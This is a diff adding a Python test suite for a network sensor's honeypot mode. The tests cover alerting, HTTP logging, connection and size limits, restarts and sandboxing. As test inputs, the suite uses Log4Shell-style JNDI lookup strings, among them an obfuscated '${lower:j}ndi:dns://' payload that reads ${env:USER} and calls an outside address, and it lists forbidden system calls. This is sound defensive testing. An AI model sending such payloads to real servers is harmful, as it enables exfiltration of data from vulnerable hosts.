@@ -1,0 +1,435 @@
+#!/usr/bin/python3
+"""The honeypot: what it answers, what it tells, what it bears, and that it can do nothing else.
+
+usage: test_honeypot.py PROGRAM
+"""
+import os
+import re
+import shutil
+import signal
+import socket
+import subprocess
+
+from harness_honeypot import (  # first: it sets where the others are
+    ALARM, TOUCHED, Honeypot, alerts, ask, connect, from_capture, get, has_ended, lookups, read_all,
+    touch)
+import flows
+from harness import (Skip, arguments, demand, expect, expect_refused, figure, main, of_type,
+                     unprivileged, wait_for)
+
+INSIDE, OUTSIDE = "127.0.0.2", "127.0.0.3"
+HOME = ("--set", f"vars.HOME_NET={INSIDE}/32")
+ANEW = r"^the honeypot's listening process ended, and was started anew"
+
+
+def honeypot_of(event):
+    return event["alert"]["context"]["honeypot"]
+
+
+# --- touches
+
+def every_touch_is_told(lab):
+    """A connection that says nothing too, and who it was decides how severe it is."""
+    pot = Honeypot(lab, *HOME)
+    touch(pot.first, INSIDE)
+    touch(pot.first, OUTSIDE)
+    demand(b" 200 OK\r\n" in get(pot.first, source=OUTSIDE), "no answer")
+    wait_for(lambda: lab.text("out.json").count(b'"event_type":"alert"') >= 4, "the alerts")
+    events = pot.stop()
+    told = [(event["src_ip"], event["alert"]["severity"]) for event in alerts(events, TOUCHED)]
+    demand(sorted(told) == [(INSIDE, 1), (OUTSIDE, 3), (OUTSIDE, 3)], f"touches: {told}")
+    alarms = [event["src_ip"] for event in alerts(events, ALARM)]
+    demand(alarms == [INSIDE], f"alarms: {alarms}")
+    demand(len(of_type(events, "flow")) == 3, "a touch without a flow event")
+    for event in alerts(events):
+        told = honeypot_of(event)
+        demand(told["listener"] == pot.first.name == event["in_iface"], f"listener: {told}")
+        demand(told["persona"] == "tomcat", f"persona: {told}")
+    sessions = {honeypot_of(event)["session"] for event in alerts(events, TOUCHED)}
+    demand(len(sessions) == 3, f"three connections are {len(sessions)} sessions")
+
+
+def inside_is_what_is_not_public(lab):
+    """Where HOME_NET says nothing."""
+    pot = Honeypot(lab)
+    touch(pot.first)
+    events = pot.stop()
+    demand([event["alert"]["severity"] for event in alerts(events, TOUCHED)] == [1], "not severe")
+
+
+def the_alarm_is_told_once(lab):
+    pot = Honeypot(lab, *HOME)
+    for _ in range(5):
+        get(pot.first, source=INSIDE)
+    events = pot.stop()
+    demand(len(alerts(events, TOUCHED)) == 5, "touches are missing")
+    demand(len(alerts(events, ALARM)) == 1, f"{len(alerts(events, ALARM))} alarms")
+
+
+def http_is_told_as_from_a_capture(lab):
+    """Requests and answers are http events with their status, and look-ups the usual alerts."""
+    pot = Honeypot(lab)
+    attack = [b"X-Api-Version: " + flows.lookup("header")]
+    demand(b" 401 " in get(pot.first, b"/manager/html", attack), "no 401")
+    events = pot.stop()
+    http = [event["http"] for event in of_type(events, "http")]
+    demand([(one["url"], one["status"]) for one in http] == [("/manager/html", 401)], f"{http}")
+    found = lookups(events)
+    demand([one["field"] for one in found] == ["http.request_header.x-api-version"], f"{found}")
+    flow = of_type(events, "flow")[0]
+    demand(flow["flow"]["bytes_toclient"] > 200 and flow["app_proto"] == "http", f"flow: {flow}")
+    hits = [event for event in alerts(events) if "jndi" in event["alert"]["context"]]
+    demand(honeypot_of(hits[0])["session"] == honeypot_of(alerts(events, TOUCHED)[0])["session"],
+           "another session")
+
+
+def forms():
+    """Requests with look-ups in many places and wrappings."""
+    name = [flows.lookup(f"n{number}") for number in range(9)]
+    nested = flows.OPENER.encode() + b"${lower:j}ndi:dns://203.0.113.9/${env:USER}}"
+    percent = "".join(f"%{byte:02x}" for byte in name[1]).encode()
+    return [
+        flows.request(headers=[(b"User-Agent", name[0])]),
+        flows.request(url="/?q=" + percent.decode()),
+        flows.request(headers=[(b"Cookie", b"sid=" + name[2])]),
+        flows.request(method="POST", body=b'{"user":{"name":"' + name[3] + b'"}}',
+                      headers=[(b"Content-Type", b"application/json")]),
+        flows.request(method="POST", body=b"a=1&b=" + percent,
+                      headers=[(b"Content-Type", b"application/x-www-form-urlencoded")]),
+        flows.request(headers=[(b"Referer", nested)]),
+        b"GET /" + name[4] + b" HTTP/1.1\r\n\r\n",
+        name[5] + b"\r\n",
+        flows.request(headers=[(b"X-A", name[6]), (b"X-B", name[7])]),
+    ]
+
+
+def finds_what_a_capture_shows(lab):
+    """The same bytes give the same look-ups, whichever way they come."""
+    pot = Honeypot(lab)
+    for request in forms():
+        ask(pot.first, request)
+    here = sorted(map(str, lookups(pot.stop())))
+    there = sorted(map(str, lookups(from_capture(lab, forms()))))
+    demand(len(here) >= len(forms()), f"{len(here)} look-ups of {len(forms())}")
+    demand(here == there, f"differ: {set(here) ^ set(there)}")
+
+
+def raw_bytes_are_scanned(lab):
+    pot = Honeypot(lab, spots=("tcp:127.0.0.1:0",))
+    ask(pot.first, b"\x10\x00player says " + flows.lookup("chat"))
+    events = pot.stop()
+    demand([one["field"] for one in lookups(events)] == ["tcp.payload"], f"{lookups(events)}")
+    demand(honeypot_of(alerts(events)[0])["persona"] == "silent", "another persona")
+
+
+def both_families(lab):
+    """At * both, and their addresses are told as what they are."""
+    if not os.path.exists("/proc/net/if_inet6"):
+        raise Skip("the kernel has no IPv6")
+    pot = Honeypot(lab, spots=("http:*:0", "http:[::1]:0"))
+    get(pot.first)
+    pot.first.host = "::1"
+    get(pot.first)
+    get(pot.spots[1])
+    events = pot.stop()
+    seen = [(event["src_ip"], event["dest_ip"]) for event in of_type(events, "http")]
+    here = ("0000:0000:0000:0000:0000:0000:0000:0001",) * 2
+    demand(sorted(seen) == sorted([("127.0.0.1", "127.0.0.1"), here, here])
+           or sorted(seen) == sorted([("127.0.0.1",) * 2, ("::1",) * 2, ("::1",) * 2]), f"{seen}")
+
+
+def curl_is_answered(lab):
+    """Keep-alive, Expect, a chunked upload and HEAD, by a client that knows HTTP."""
+    if shutil.which("curl") is None:
+        raise Skip("curl is not installed")
+    pot = Honeypot(lab)
+    body = lab.write("body", b"x" * 100000)
+    words = ["curl", "-sS", "--max-time", "30", "-o", "/dev/null", "-w", "%{http_code}\n"]
+    url = pot.first.url
+    done = subprocess.run(
+        [*words, f"{url}/a", "--next", *words[1:], "-I", f"{url}/b", "--next", *words[1:],
+         "-T", body, "-H", "Transfer-Encoding: chunked", f"{url}/c", "--next", *words[1:],
+         "-H", "Expect: 100-continue", "--data-binary", f"@{body}", f"{url}/manager"],
+        capture_output=True, check=False, text=True)
+    demand(done.stdout.split() == ["200", "200", "200", "401"], f"{done.stdout} {done.stderr}")
+    events = pot.stop()
+    urls = [event["http"]["url"] for event in of_type(events, "http")]
+    demand(urls == ["/a", "/b", "/c", "/manager"], f"{urls}")
+
+
+# --- limits
+
+def late_heads_are_ended(lab):
+    """The head that does not come, and the connection on which nothing does."""
+    pot = Honeypot(lab, "--set", "honeypot.timeout.header=100ms", "--set",
+                   "honeypot.timeout.idle=300ms", spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"))
+    with connect(pot.first) as slow, connect(pot.spots[1]) as silent:
+        slow.sendall(b"GET / HTTP/1.1\r\nHost: ")
+        demand(read_all(slow) == b"" and read_all(silent) == b"", "was answered")
+    events = pot.stop()
+    demand(figure(events, "decoy_timed_out") == 2, "not counted")
+    demand(len(alerts(events, TOUCHED)) == 2, "not told")
+
+
+def long_lives_are_ended(lab):
+    """However busy they are."""
+    pot = Honeypot(lab, "--set", "honeypot.timeout.total=200ms")
+    with connect(pot.first) as busy:
+        n_answers = 0
+        try:
+            while True:
+                busy.sendall(b"GET / HTTP/1.1\r\n\r\n")
+                if not busy.recv(65536):
+                    break
+                n_answers += 1
+        except (ConnectionResetError, BrokenPipeError):
+            pass
+    events = pot.stop()
+    demand(n_answers > 0 and figure(events, "decoy_timed_out") == 1, f"{n_answers} answers")
+
+
+def too_many_are_refused(lab):
+    """Of one source, and of all; and are counted, while the others go on."""
+    pot = Honeypot(lab, "--set", "honeypot.connections=5", "--set",
+                   "honeypot.connections_per_source=3")
+    held = [connect(pot.first, INSIDE) for _ in range(3)]
+    demand(read_all(connect(pot.first, INSIDE)) == b"", "a fourth of one source")
+    held += [connect(pot.first, OUTSIDE) for _ in range(2)]
+    for one in held:
+        one.sendall(b"GET / HTTP/1.1\r\n\r\n")
+        demand(one.recv(65536).startswith(b"HTTP/1.1 200"), "one that is allowed")
+    demand(read_all(connect(pot.first, "127.0.0.9")) == b"", "a sixth of all")
+    held[0].close()
+    wait_for(lambda: get(pot.first, source="127.0.0.9"), "a place that is free again")
+    for one in held:
+        one.close()
+    events = pot.stop()
+    demand(figure(events, "decoy_refused_source") >= 1, "of one source: not counted")
+    demand(figure(events, "decoy_refused_total") >= 1, "of all: not counted")
+
+
+def sizes_are_limited(lab):
+    pot = Honeypot(lab, "--set", "honeypot.head=2KiB", "--set", "honeypot.body=4KiB",
+                   spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"))
+    demand(b" 431 " in ask(pot.first, b"GET / HTTP/1.1\r\nX: " + b"x" * 4000), "a long head")
+    large = flows.request(method="POST", body=b"x" * 5000)
+    demand(b" 413 " in ask(pot.first, large), "a large body")
+    ask(pot.spots[1], b"x" * 5000)
+    events = pot.stop()
+    demand(figure(events, "decoy_cut") == 3, f"{figure(events, 'decoy_cut')} were cut")
+
+
+def a_thousand_slow_ones(lab):
+    """Half a head from each of a thousand, and whoever comes meanwhile is served."""
+    n = 1000
+    pot = Honeypot(lab, "--set", "honeypot.connections=1100", "--set",
+                   "honeypot.connections_per_source=300")
+    slow = []
+    for number in range(n):
+        one = connect(pot.first, f"127.0.1.{number % 5 + 1}")
+        one.sendall(b"GET /slow HTTP/1.1\r\nX: ")
+        slow.append(one)
+    demand(b" 200 OK" in get(pot.first, b"/quick", source=OUTSIDE), "no answer")
+    for one in slow:
+        one.close()
+    events = pot.stop()
+    demand(figure(events, "decoy_accepted") == n + 1, f"{figure(events, 'decoy_accepted')} came")
+    demand(len(alerts(events, TOUCHED)) == n + 1, "touches are missing")
+    demand(figure(events, "capture.kernel_drops") == 0, "something was lost")
+    quick = [event for event in of_type(events, "http") if event["http"]["url"] == "/quick"]
+    demand(len(quick) == 1, "the quick one is not told")
+
+
+# --- processes
+
+def is_started_anew(lab):
+    """Within a second, with an event; what was open is ended, and told."""
+    pot = Honeypot(lab)
+    held = connect(pot.first)
+    held.sendall(b"GET / HTTP/1.1\r\nHost: decoy\r\n\r\n")
+    demand(held.recv(65536), "no answer")
+    before = pot.decoy
+    os.kill(before, signal.SIGKILL)
+    wait_for(lambda: pot.decoy not in (None, before), "another process")
+    demand(b" 200 OK" in get(pot.first), "no answer")
+    pot.run.wait_for(lambda: b"started anew" in pot.run.err(), "a word about it")
+    held.close()
+    events = pot.stop(warnings=[ANEW])
+    told = [event["anomaly"]["event"] for event in of_type(events, "anomaly")]
+    demand(told == ["decoy_restarted"], f"anomalies: {told}")
+    demand(figure(events, "decoy_restarts") == 1, "not counted")
+    demand(len(of_type(events, "http")) == 2 and len(of_type(events, "flow")) == 2, "lost one")
+
+
+def ends_with_its_keeper(lab):
+    """Without it nobody would start the listening process anew: that is a capture that ended."""
+    pot = Honeypot(lab)
+    decoy = pot.decoy
+    os.kill(pot.keeper, signal.SIGKILL)
+    ended = pot.run.wait()
+    expect(ended, 4, r"^the honeypot's listening process ended, and cannot be started again")
+    wait_for(lambda: has_ended(decoy), "the listening process to end with it")
+
+
+def ends_cleanly(lab):
+    """All that was answered is told; ports are free and processes gone; so after SIGKILL, too."""
+    pot = Honeypot(lab)
+    for number in range(50):
+        get(pot.first, b"/%d" % number)
+    held = connect(pot.first)
+    events = pot.stop()
+    held.close()
+    demand(len(of_type(events, "http")) == 50, f"{len(of_type(events, 'http'))} of 50")
+    again = Honeypot(lab, spots=(f"http:127.0.0.1:{pot.first.port}",))
+    processes = [again.keeper, again.decoy]
+    again.run.process.kill()
+    again.run.process.wait()
+    for pid in processes:
+        wait_for(lambda pid=pid: has_ended(pid), "its processes to end")
+
+
+def status_of(pid):
+    with open(f"/proc/{pid}/status", encoding="ascii") as file:
+        return dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
+
+
+def has_no_rights(lab):
+    """No capability, another user, filters, no process to start, no descriptor of the sensor's."""
+    about = subprocess.run([lab.program, "--build-info"], capture_output=True, check=True).stdout
+    if os.geteuid() != 0 or b"sandbox: none" in about:
+        raise Skip("needs root, and a program with a sandbox")
+    os.chmod(lab.folder, 0o777)
+    pot = Honeypot(lab, "--user", "nobody")
+    wait_for(lambda: status_of(pot.decoy)["Seccomp_filters"] == "2", "its own filter")
+    for pid in (pot.keeper, pot.decoy):
+        status = status_of(pid)
+        demand(status["Uid"].split() == ["65534"] * 4, f"Uid is {status['Uid']}")
+        demand(not status["Groups"].split()[1:], f"Groups are {status['Groups']}")
+        for name in ("CapPrm", "CapEff", "CapInh", "CapAmb", "CapBnd"):
+            demand(int(status[name], 16) == 0, f"{name} is {status[name]}")
+        demand(status["NoNewPrivs"] == "1" and status["Seccomp"] == "2", "no walls")
+    with open(f"/proc/{pot.decoy}/limits", encoding="ascii") as file:
+        demand(re.search(r"^Max processes +0 ", file.read(), re.M), "it may start processes")
+    folder = f"/proc/{pot.decoy}/fd"
+    files = {os.readlink(os.path.join(folder, name)) for name in os.listdir(folder)}
+    others = [name for name in files if name.startswith("/") and name != "/dev/null"
+              and not name.startswith(os.path.join(lab.folder, ".err"))]
+    demand(not others, f"it has {others}")
+    get(pot.first)
+    demand(len(of_type(pot.stop(), "http")) == 1, "not told")
+
+
+def makes_no_connection(lab):
+    """What the kernel was asked for, from the start to the end: whoever listens opens nothing."""
+    if shutil.which("strace") is None:
+        raise Skip("strace is not installed")
+    trace = lab.path("trace")
+    pot = Honeypot(lab, spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"),
+                   before=["strace", "-f", "-qq", "-o", trace, "-e",
+                           "trace=network,execve,open,openat,clone,fork,vfork"])
+    strace_child = pot.children()[0]
+    keeper = pot.children(strace_child)[0]
+    decoy = pot.children(keeper)[0]
+    get(pot.first, b"/", [b"X: " + flows.lookup("a"), b"Location: http://203.0.113.9/"])
+    ask(pot.spots[1], flows.lookup("b"))
+    os.kill(strace_child, signal.SIGTERM)
+    demand(pot.run.wait().code == 0, "did not end well")
+    with open(trace, encoding="utf-8", errors="replace") as file:
+        calls = [line.split(None, 1) for line in file]
+    own = [text.split("(")[0] for pid, text in calls if int(pid) == decoy]
+    demand(own.count("accept4") > 2, f"nothing was accepted: {own}")
+    forbidden = {"connect", "socket", "bind", "listen", "sendmsg", "execve", "open", "openat",
+                 "clone", "fork", "vfork"}
+    demand(not forbidden & set(own), f"it asked for {forbidden & set(own)}")
+    of_keeper = [text.split("(")[0] for pid, text in calls if int(pid) == keeper]
+    demand(not {"connect", "socket", "execve"} & set(of_keeper), f"the keeper: {of_keeper}")
+
+
+# --- what is wrong
+
+def in_use(lab):
+    """Nothing is started: also not what could be."""
+    with socket.create_server(("127.0.0.1", 0)) as other:
+        port = other.getsockname()[1]
+        ended = lab.run("honeypot", "--listen", f"http:127.0.0.1:{port}", "--listen",
+                        "tcp:127.0.0.1:0", "-o", "out.json", "--set", "cache=none")
+    expect(ended, 4, rf"^cannot listen at 'http:127.0.0.1:{port}': Address already in use\. ")
+    demand(not os.path.exists(lab.path("out.json")), "an output was made")
+
+
+def not_permitted(lab):
+    before = unprivileged(lab)
+    with open("/proc/sys/net/ipv4/ip_unprivileged_port_start", encoding="ascii") as file:
+        if int(file.read()) < 81:
+            raise Skip("everybody may use low ports here")
+    ended = lab.run("honeypot", "--listen", "http:127.0.0.1:80", "-o", "-", "--set", "cache=none",
+                    before=before)
+    expect(ended, 4, r"^cannot listen at 'http:127.0.0.1:80': Permission denied\. .*1024")
+
+
+def no_such_address(lab):
+    ended = lab.run("honeypot", "--listen", "http:192.0.2.77:8080", "-o", "-")
+    expect(ended, 4, r"^cannot listen at 'http:192.0.2.77:8080': Cannot assign requested address")
+
+
+def all_mistakes_at_once(lab):
+    ended = lab.run("honeypot", "--listen", "htp:*:80", "--listen", "http:*:99999", "--listen",
+                    "http:*:0:nosuch", "--listen", "tcp:*:7", "--listen", "tcp:*:7", "-o", "-")
+    expect_refused(ended, r"^listener 'htp:\*:80' begins with no kind",
+                   r"^listener 'http:\*:99999' has no port",
+                   r"^listener 'http:\*:0': no persona 'nosuch'",
+                   r"^listener 'tcp:\*:7' is there twice")
+
+
+def in_the_configuration(lab):
+    lab.write("a.yaml", "honeypot:\n  listen: ['http:127.0.0.1:x']\n")
+    expect_refused(lab.run("honeypot", "-c", "a.yaml", "-o", "-"),
+                   r"^listener 'http:127.0.0.1:x' has no port")
+    lab.write("b.yaml", "honeypot:\n  listen: ['tcp:127.0.0.1:0']\n  connections: 0\n")
+    expect_refused(lab.run("honeypot", "-c", "b.yaml", "-o", "-"),
+                   r"^b.yaml:3: honeypot.connections: '0' is ")
+
+
+def contradictions(lab):
+    expect_refused(lab.run("honeypot", "-i", "lo"), r"^honeypot does not go with -r, -i")
+    expect_refused(lab.run("honeypot", "tcp"), r"^a filter expression does not go with honeypot")
+    expect_refused(lab.run("-r", "x", "--listen", "http:*:0"), r"^--listen goes with honeypot")
+
+
+def only_checked(lab):
+    """-T opens what there is to open, and lets go of it."""
+    ended = lab.run("honeypot", "-T", "--listen", "http:127.0.0.1:0", "-o", "out.json")
+    expect(ended, 0)
+    demand(not os.path.exists(lab.path("out.json")), "an output was made")
+
+
+TESTS = [
+    ("every touch is told", every_touch_is_told),
+    ("inside is what is not public", inside_is_what_is_not_public),
+    ("the alarm is told once", the_alarm_is_told_once),
+    ("HTTP is told as from a capture", http_is_told_as_from_a_capture),
+    ("finds what a capture shows", finds_what_a_capture_shows),
+    ("raw bytes are scanned", raw_bytes_are_scanned),
+    ("IPv4 and IPv6", both_families),
+    ("curl is answered", curl_is_answered),
+    ("late heads and silence are ended", late_heads_are_ended),
+    ("long lives are ended", long_lives_are_ended),
+    ("too many are refused", too_many_are_refused),
+    ("sizes are limited", sizes_are_limited),
+    ("a thousand slow ones", a_thousand_slow_ones),
+    ("the listening process is started anew", is_started_anew),
+    ("it ends with its keeper", ends_with_its_keeper),
+    ("it ends cleanly", ends_cleanly),
+    ("the listening process has no rights", has_no_rights),
+    ("the listening process makes no connection", makes_no_connection),
+    ("a port in use", in_use),
+    ("a port that is not permitted", not_permitted),
+    ("an address that is not here", no_such_address),
+    ("all mistakes are told at once", all_mistakes_at_once),
+    ("mistakes in the configuration", in_the_configuration),
+    ("contradictions", contradictions),
+    ("only checked", only_checked),
+]
+
+if __name__ == "__main__":
+    main(__doc__, TESTS, arguments(__doc__))
